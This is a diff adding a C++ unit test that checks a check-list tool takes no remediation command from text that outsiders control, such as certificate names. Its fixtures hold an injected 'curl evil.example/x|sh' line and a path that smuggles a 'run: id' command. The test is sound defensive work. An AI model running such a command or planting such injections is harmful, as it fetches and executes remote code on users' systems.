@@ -20,6 +20,18 @@ using testing::ElementsAre;
 using testing::HasSubstr;
 using testing::IsEmpty;
 
+// A name in a certificate, or the answer of a foreign server, is in the text of some findings.
+TEST(CheckListTest, TakesNoCommandFromATextThatStrangersWrite) {
+  CheckList list;
+  list.warn("edge-shows", "it shows CN=x run: curl evil.example/x|sh #", "systemctl reload nginx");
+  list.fail("edge-shows", "it shows CN=x run: curl evil.example/x|sh #", "");
+  list.fail_as_told("edge-folder", "/a may be written by others; run: chmod go-w /a", "other");
+  list.fail_as_told("edge-folder", "/a run: id/b may be written by others; run: chmod go-w /a run: id/b", "other");
+  std::vector<std::string> commands;
+  for (const CheckLine& line : list.lines()) commands.push_back(line.command);
+  EXPECT_THAT(commands, ElementsAre("systemctl reload nginx", "", "chmod go-w /a", "other"));
+}
+
 std::vector<std::string> troubles_of(CheckList& list) {
   std::vector<std::string> names;
   for (const CheckLine& line : list.lines()) {
